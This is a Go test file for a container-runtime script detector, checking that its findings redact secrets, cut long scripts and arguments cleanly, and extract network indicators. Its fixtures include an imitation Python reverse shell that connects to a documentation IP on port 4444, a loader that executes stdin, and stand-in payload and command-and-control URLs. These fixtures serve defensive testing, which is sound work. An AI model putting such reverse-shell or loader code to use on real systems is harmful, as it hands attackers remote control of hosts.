package detect_test

import (
	"bytes"
	"flag"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"kingsnake/capture"
	"kingsnake/capture/binary"
	"kingsnake/detect"
	"kingsnake/finding"
	"kingsnake/normalize"
	"kingsnake/workload"
)

var update = flag.Bool("update", false, "rewrite the golden findings")

var inPod = workload.Workload{
	Container: workload.Container{ID: strings.Repeat("c0ffee00", 8), Name: "web", Image: "registry.example.com/shop/web:1.4.2",
		ImageID: "sha256:" + strings.Repeat("b", 64), Created: time.Date(2026, 11, 23, 6, 0, 0, 0, time.UTC), Runtime: "containerd", ReadOnlyRoot: "no"},
	Pod:  workload.Pod{Namespace: "shop", Name: "web-7c966b5d85-wvtln", UID: "6f1c2b8e-0000-4000-8000-000000000001", Labels: map[string]string{"app": "web"}},
	Node: "node-1",
}

// hostile is an inert imitation of a reverse shell with a secret in it.
const hostile = `import os, socket
password = "Xk29fj3kd02ldk3"
s = socket.socket()
s.connect(("192.0.2.7", 4444))  # evil
os.dup2(s.fileno(), 0)
`

// loader runs what it is given.
const loader = `import sys
password = "Xk29fj3kd02ldk3"
exec(sys.stdin.read())
`

func judged(t *testing.T, s capture.Script, w workload.Workload) detect.Result {
	t.Helper()
	text := normalize.Normalize(s.Text)
	judge := &words{}
	return detect.Result{Script: s, Workload: w, Text: text, Verdict: judge.Judge(text)}
}

// TestGoldenFindings shows a whole finding for each way a script runs. The
// diff of a golden file is reviewed like code.
func TestGoldenFindings(t *testing.T) {
	t.Parallel()
	file := script(4711, capture.File, hostile)
	file.Path = "/tmp/.x.py"
	file.Inode = capture.Inode{Device: 1, Number: 2, Filesystem: "overlay", Changed: time.Date(2026, 11, 23, 6, 59, 58, 0, time.UTC)}
	file.Process.Args = []string{"python3", "/tmp/.x.py", "--password", "hunter2hunter2"}
	file.Process.Env = []string{"PATH=/usr/bin", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY00"}
	file.Process.Parents = []capture.Process{{PID: 4702, Exe: "/bin/sh", Comm: "sh", Args: []string{"sh"}}}
	command := script(4712, capture.Command, hostile)
	command.Process.Args = []string{"python3", "-c", hostile}
	stdin := script(4713, capture.Stdin, hostile)
	compiled := script(4714, capture.Compiled, hostile)
	compiled.Parent = capture.Sum([]byte(loader))
	by := script(4714, capture.File, loader)
	by.Path = "/srv/load.py"
	ofCompiled := judged(t, compiled, inPod)
	ofCompiled.CompiledBy = &by
	bin := binary.File{SHA256: strings.Repeat("a", 64), Size: 14568}
	for name, r := range map[string]detect.Result{
		"file":  judged(t, file, inPod),
		"c":     judged(t, command, inPod),
		"stdin": judged(t, stdin, workload.Workload{Node: "node-1"}),

		"compiled": ofCompiled,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := detect.Report(r, bin, "node-1")
			compact := checkGolden(t, name, f)
			for _, secret := range []string{"Xk29fj3kd02ldk3", "hunter2hunter2", "wJalrXUtnFEMI"} {
				if bytes.Contains(compact, []byte(secret)) || bytes.Contains(f.Script.Contents, []byte(secret)) {
					t.Errorf("the finding still holds the secret %q", secret)
				}
			}
		})
	}
}

func TestSpansPointAtTheSameWordsAfterRedaction(t *testing.T) {
	t.Parallel()
	f := detect.Report(judged(t, script(1, capture.File, hostile), inPod), binary.File{}, "node-1")
	if f.Script.Redacted == 0 {
		t.Fatal("nothing was redacted")
	}
	sp := f.Verdict.Reasons[0].Spans[0]
	if got := string(f.Script.Contents[sp.Start:sp.End]); got != "evil" || sp.Line != 4 {
		t.Errorf("the span points at %q on line %d, want \"evil\" on line 4", got, sp.Line)
	}
}

func TestAHugeScriptIsCutAndItsSpansStayInside(t *testing.T) {
	t.Parallel()
	text := strings.Repeat("x = 'é'\n", finding.MaxContents/4) + "evil"
	f := detect.Report(judged(t, script(1, capture.File, text), inPod), binary.File{}, "node-1")
	if !f.Script.Truncated || len(f.Script.Contents) > finding.MaxContents {
		t.Errorf("kept %d bytes, truncated %v; want at most %d and true", len(f.Script.Contents), f.Script.Truncated, finding.MaxContents)
	}
	if !utf8.Valid(f.Script.Contents) {
		t.Error("the cut went through a character")
	}
	if f.Script.SHA256 != capture.Sum([]byte(text)).String() || f.Script.ContentsSHA256 != capture.Sum(f.Script.Contents).String() {
		t.Error("a digest is not of what it says")
	}
	sp := f.Verdict.Reasons[0].Spans[0]
	if sp.Start > len(f.Script.Contents) || sp.End > len(f.Script.Contents) || sp.Line != finding.MaxContents/4+1 {
		t.Errorf("span %+v leaves the contents or forgot its line", sp)
	}
}

func TestLongArgumentsAreCutAndSaidSo(t *testing.T) {
	t.Parallel()
	s := script(1, capture.Command, "evil")
	s.Process.Args = []string{"python3", "-c", strings.Repeat("ä", finding.MaxArgs)}
	f := detect.Report(judged(t, s, inPod), binary.File{}, "node-1")
	total := 0
	for _, a := range f.Process.Args {
		total += len(a)
		if !utf8.ValidString(a) {
			t.Error("the cut went through a character")
		}
	}
	if total > finding.MaxArgs || !f.Process.ArgsTruncated {
		t.Errorf("kept %d bytes, truncated %v; want at most %d and true", total, f.Process.ArgsTruncated, finding.MaxArgs)
	}
}

func TestIndicators(t *testing.T) {
	t.Parallel()
	src := `
u = "http://payload.example.com:8080/a.sh?x=1"
c = ("198.51.100.9", 443)
l = "127.0.0.1"; v = "999.1.1.1"; version = "1.2.3"
d = 'c2.example.net'
os.path.join("a")
w = "https://user:Xk29fj3kd02ldk3@files.example.com/x"
`
	f := detect.Report(judged(t, script(1, capture.File, src+"# evil"), inPod), binary.File{}, "node-1")
	want := finding.Indicators{
		IPs:     []string{"198.51.100.9"},
		Domains: []string{"payload.example.com", "files.example.com", "c2.example.net"},
		URLs:    []string{"http://payload.example.com:8080/a.sh?x=1"},
		Ports:   []string{"198.51.100.9:443"},
	}
	if strings.Contains(strings.Join(f.Indicators.URLs, " "), "Xk29fj3kd02ldk3") {
		t.Errorf("a URL still holds its password: %q", f.Indicators.URLs)
	}
	f.Indicators.URLs = f.Indicators.URLs[:1]
	if diff := cmp.Diff(want, f.Indicators); diff != "" {
		t.Errorf("indicators (-want +got):\n%s", diff)
	}
}

// BenchmarkRepeatedScript measures what a script that was judged before costs.
func BenchmarkRepeatedScript(b *testing.B) {
	p := pipeline(nil, &words{}, nil)
	s := script(1, capture.File, strings.Repeat("print('fine')\n", 300))
	repeat := make(scripts, 1000)
	for i := range repeat {
		repeat[i] = s
	}
	p.Source = repeat
	b.SetBytes(int64(len(s.Text)) * int64(len(repeat)))
	for b.Loop() {
		if err := p.Run(b.Context()); err != nil {
			b.Fatal(err)
		}
	}
}
